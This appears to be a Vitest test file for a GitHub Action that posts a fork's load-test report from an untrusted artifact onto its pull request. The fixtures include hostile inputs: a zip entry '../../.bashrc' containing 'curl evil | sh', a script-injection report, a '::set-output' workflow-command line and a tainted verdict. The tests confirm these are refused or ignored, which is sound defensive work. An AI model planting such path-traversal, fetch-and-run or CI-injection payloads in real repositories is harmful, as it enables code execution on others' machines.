import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createGitHubClient } from '../../src/github/client.ts';
import { commentMarker } from '../../src/github/comment.ts';
import { githubContextFrom } from '../../src/github/context.ts';
import { commentFromArtifact, UntrustedArtifactError } from '../../src/github/fromArtifact.ts';
import type { ActionSink } from '../../src/github/publish.ts';
import { drainingResult } from '../../src/report/testing/draining-pool.ts';
import { FakeGitHub } from './fakeGitHub.ts';
import { makeZip, type TestZipEntry } from './zipWriter.ts';

// The companion workflow's mode against the OpenAPI-validating fake: a fork's run saved its
// output folder as an artifact; the base repository posts it without trusting any of it.

const HEAD_SHA = 'f'.repeat(40);
const RUN_ID = 4242;
let gh: FakeGitHub;
let work: string;

function sink() {
  const events: { kind: string; text: string }[] = [];
  const outputs: Record<string, string> = {};
  const s: ActionSink = {
    info: (text) => events.push({ kind: 'info', text }),
    untrusted: (text) => events.push({ kind: 'untrusted', text }),
    notice: (text) => events.push({ kind: 'notice', text }),
    warning: (text) => events.push({ kind: 'warning', text }),
    error: (text) => events.push({ kind: 'error', text }),
    setOutput: (name, value) => {
      outputs[name] = value;
    },
    writeSummary: async (markdown) => {
      events.push({ kind: 'summary', text: markdown });
    },
  };
  return { s, events, outputs };
}

const context = () =>
  githubContextFrom(
    { GITHUB_REPOSITORY: 'octo/app', GITHUB_RUN_ID: '9999', GITHUB_EVENT_NAME: 'workflow_run' },
    {
      workflow_run: {
        id: RUN_ID,
        head_sha: HEAD_SHA,
        head_branch: 'patch-1',
        head_repository: { full_name: 'forker/app' },
        event: 'pull_request',
        conclusion: 'success',
        pull_requests: [],
      },
    },
  );

function artifact(entries: TestZipEntry[]) {
  gh.artifacts.set(RUN_ID, [{ id: 77, name: 'loadgate-report', zip: makeZip(entries) }]);
}

const goodEntries = (): TestZipEntry[] => [
  { name: 'result.json', data: JSON.stringify(drainingResult({ summary: 'all levels within the gate' })) },
  { name: 'report.md', data: '<script>alert(1)</script> @everyone PWNED-REPORT' },
  {
    name: 'loadgate-comment.json',
    data: JSON.stringify({
      jobKey: '.github/loadgate.yml',
      configPath: '.github/loadgate.yml',
      overrides: ['x=1'],
    }),
  },
  { name: 'logs/service.log', data: '::set-output name=verdict::pass\n' },
];

const run = (s: ActionSink) =>
  commentFromArtifact(s, {
    client: createGitHubClient({ token: 'ghs-installation', repository: 'octo/app', apiUrl: gh.url }),
    context: context(),
    runId: null,
    artifactName: 'loadgate-report',
    workDir: work,
    defaultJobKey: 'fallback-key',
  });

beforeEach(async () => {
  gh = await new FakeGitHub().start();
  gh.addPull({ number: 12, headSha: HEAD_SHA, headRef: 'patch-1', headRepo: 'forker/app' });
  gh.addPull({ number: 13, headSha: 'e'.repeat(40), headRef: 'patch-1', headRepo: 'someone-else/app' });
  work = mkdtempSync(join(tmpdir(), 'loadgate-companion-'));
});

afterEach(async () => {
  await gh.close();
  rmSync(work, { recursive: true, force: true });
  expect(gh.violations).toEqual([]);
});

describe('comment-from-artifact', () => {
  it("posts a fork's result on its pull request, found by head SHA, rendered anew from the validated data", async () => {
    artifact(goodEntries());
    const { s, outputs, events } = sink();
    await run(s);
    expect(outputs.comment).toBe('created');
    expect(outputs.verdict).toBe('pass');
    const [comment, ...more] = gh.commentsOn(12);
    expect(more).toEqual([]);
    expect(gh.commentsOn(13)).toEqual([]);
    expect(comment?.body.startsWith(`${commentMarker('.github/loadgate.yml')}\n`)).toBe(true);
    expect(comment?.body).toContain('all levels within the gate');
    expect(comment?.body).toContain('--set x=1');
    expect(comment?.body).toContain('/octo/app/actions/runs/4242');
    expect(comment?.body).not.toContain('PWNED-REPORT');
    expect(events.find((e) => e.kind === 'summary')?.text).not.toContain('PWNED-REPORT');
    expect(gh.requests.map((r) => r.operationId)).toEqual([
      'actions/list-workflow-run-artifacts',
      'actions/download-artifact',
      'blob',
      'repos/list-pull-requests-associated-with-commit',
      'users/get-authenticated',
      'issues/list-comments',
      'issues/create-comment',
      'issues/list-comments',
    ]);
  });

  it('falls back to pulls?head=owner:branch when the commit lookup finds nothing', async () => {
    artifact(goodEntries());
    gh.intercept = (r) =>
      r.operationId === 'repos/list-pull-requests-associated-with-commit'
        ? { status: 200, body: [] }
        : undefined;
    const { s, outputs } = sink();
    await run(s);
    expect(outputs.comment).toBe('created');
    expect(gh.commentsOn(12)).toHaveLength(1);
    expect(gh.requests.find((r) => r.operationId === 'pulls/list')?.url).toContain('head=forker%3Apatch-1');
  });

  it('refuses an archive entry leaving its folder: nothing extracted outside, nothing posted', async () => {
    artifact([...goodEntries(), { name: '../../.bashrc', data: 'curl evil | sh' }]);
    await expect(run(sink().s)).rejects.toThrow(UntrustedArtifactError);
    await expect(run(sink().s)).rejects.toThrow('has a ".." segment: it would leave its folder');
    expect(gh.comments).toEqual([]);
  });

  it('refuses a result.json that does not match the schema', async () => {
    artifact([
      { name: 'result.json', data: JSON.stringify({ ...drainingResult(), verdict: 'pass<script>' }) },
    ]);
    await expect(run(sink().s)).rejects.toThrow(/does not match the result schema \(verdict:/);
    expect(gh.comments).toEqual([]);
  });

  it('no artifact, or no matching pull request: a notice, comment output skipped', async () => {
    const a = sink();
    await run(a.s);
    expect(a.outputs.comment).toBe('skipped');
    expect(a.events.find((e) => e.kind === 'notice')?.text).toContain(
      'has no artifact named "loadgate-report"',
    );
    artifact(goodEntries());
    gh.pulls.clear();
    const b = sink();
    await run(b.s);
    expect(b.outputs.comment).toBe('skipped');
    expect(b.events.find((e) => e.kind === 'notice')?.text).toContain(
      'no pull request has head forker/app@ffffffffffff',
    );
  });
});
